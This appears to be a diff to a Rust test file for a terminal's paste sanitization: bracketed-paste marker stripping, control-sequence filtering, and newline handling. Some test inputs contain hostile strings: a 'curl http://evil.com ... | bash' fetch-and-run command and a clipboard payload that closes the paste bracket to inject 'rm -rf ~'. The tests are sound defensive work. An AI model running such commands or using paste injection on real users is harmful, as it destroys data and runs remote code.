@@ -1,6 +1,10 @@
 //! Tests for paste transformations and content sanitization.
 
-use super::{PasteTransform, sanitize_paste_content, transform};
+use super::{
+    PasteTransform, filter_control_sequences, prepare_paste, sanitize_paste,
+    sanitize_paste_content, strip_bracketed_paste_markers, transform,
+};
+use crate::config::{Config, PasteBracketMarkers, PasteControlSequences};
 
 // Shell transformations
 #[test]
@@ -522,3 +526,131 @@ fn test_sanitize_mixed_dangerous_and_safe() {
         "curl http://evil.com[2J[H | bash"
     );
 }
+
+#[test]
+fn test_strip_bracketed_paste_markers() {
+    // Payload copied from a nested editor that echoed the markers
+    let nested = "\x1b[200~echo one\necho two\x1b[201~";
+    assert_eq!(strip_bracketed_paste_markers(nested), "echo one\necho two");
+    // 8-bit CSI and caret-notation forms
+    assert_eq!(
+        strip_bracketed_paste_markers("\u{9b}200~ls\u{9b}201~ ^[[200~pwd^[[201~"),
+        "ls pwd"
+    );
+    // Other escape sequences and plain text are left for the sanitizer
+    assert_eq!(
+        strip_bracketed_paste_markers("a\x1b[1mb [200~"),
+        "a\x1b[1mb [200~"
+    );
+}
+
+#[test]
+fn test_sanitize_paste_marker_modes() {
+    let nested = "\x1b[200~make\x1b[201~";
+    let controls = PasteControlSequences::RemoveControls;
+    assert_eq!(
+        sanitize_paste(nested, PasteBracketMarkers::Strip, controls),
+        "make"
+    );
+    assert_eq!(
+        sanitize_paste(nested, PasteBracketMarkers::Preserve, controls),
+        "[200~make[201~"
+    );
+}
+
+#[test]
+fn test_sanitize_paste_strips_or_allows_csi() {
+    // A copied cursor position report between two commands
+    let paste = "echo a\x1b[12;5Recho b";
+    assert_eq!(
+        sanitize_paste(
+            paste,
+            PasteBracketMarkers::Strip,
+            PasteControlSequences::RemoveControls
+        ),
+        "echo a[12;5Recho b"
+    );
+    assert_eq!(
+        sanitize_paste(
+            paste,
+            PasteBracketMarkers::Strip,
+            PasteControlSequences::Strip
+        ),
+        "echo aecho b"
+    );
+    assert_eq!(
+        sanitize_paste(
+            paste,
+            PasteBracketMarkers::Strip,
+            PasteControlSequences::Allow
+        ),
+        paste
+    );
+}
+
+#[test]
+fn test_allowed_sequences_never_include_bracket_markers() {
+    // A clipboard that closes the paste bracket and runs a command
+    let paste = "ls\x1b[201~rm -rf ~\r\x1b[0201~\u{9b}200~ok\x1b[1m";
+    for markers in [PasteBracketMarkers::Strip, PasteBracketMarkers::Preserve] {
+        let sanitized = sanitize_paste(paste, markers, PasteControlSequences::Allow);
+        assert_eq!(sanitized, "lsrm -rf ~\rok\x1b[1m", "{markers:?}");
+    }
+    // Caret notation is plain text and is kept when preserving
+    assert_eq!(
+        sanitize_paste(
+            "^[[201~x",
+            PasteBracketMarkers::Preserve,
+            PasteControlSequences::Allow
+        ),
+        "^[[201~x"
+    );
+}
+
+#[test]
+fn test_filter_control_sequences() {
+    // DA response, 8-bit CSI, OSC with BEL and ST, DCS, two-character escapes
+    let paste = "a\x1b[?62;22cb\u{9b}6nc\x1b]0;title\x07d\x1b]8;;http://x\x1b\\e\
+                 \x1bP$qm\x1b\\f\x1b7\x1b(Bg";
+    assert_eq!(filter_control_sequences(paste, false), "abcdefg");
+    assert_eq!(filter_control_sequences(paste, true), paste);
+
+    // Lone and cut-off sequences lose their control characters either way
+    for keep in [false, true] {
+        assert_eq!(filter_control_sequences("x\x1b[12;", keep), "x[12;");
+        assert_eq!(filter_control_sequences("x\x1b]0;ti", keep), "x]0;ti");
+        assert_eq!(filter_control_sequences("a\x00\x7f\tb\x1b", keep), "a\tb");
+    }
+}
+
+#[test]
+fn test_multiline_paste_withholds_final_newline() {
+    let config = Config {
+        multiline_paste_suppress_final_newline: true,
+        ..Default::default()
+    };
+    assert_eq!(
+        prepare_paste("make\nmake install\n", &config),
+        "make\nmake install"
+    );
+    assert_eq!(prepare_paste("a\r\nb\r\n\r\n", &config), "a\r\nb");
+    // Only the final newline is withheld; sanitizing still applies
+    assert_eq!(prepare_paste("a\x1b[31m\nb", &config), "a[31m\nb");
+
+    // Off by default
+    assert_eq!(
+        prepare_paste("make\nmake install\n", &Config::default()),
+        "make\nmake install\n"
+    );
+}
+
+#[test]
+fn test_single_line_paste_keeps_final_newline() {
+    let config = Config {
+        multiline_paste_suppress_final_newline: true,
+        ..Default::default()
+    };
+    assert_eq!(prepare_paste("ls -la\n", &config), "ls -la\n");
+    assert_eq!(prepare_paste("ls -la", &config), "ls -la");
+    assert_eq!(prepare_paste("\n", &config), "\n");
+}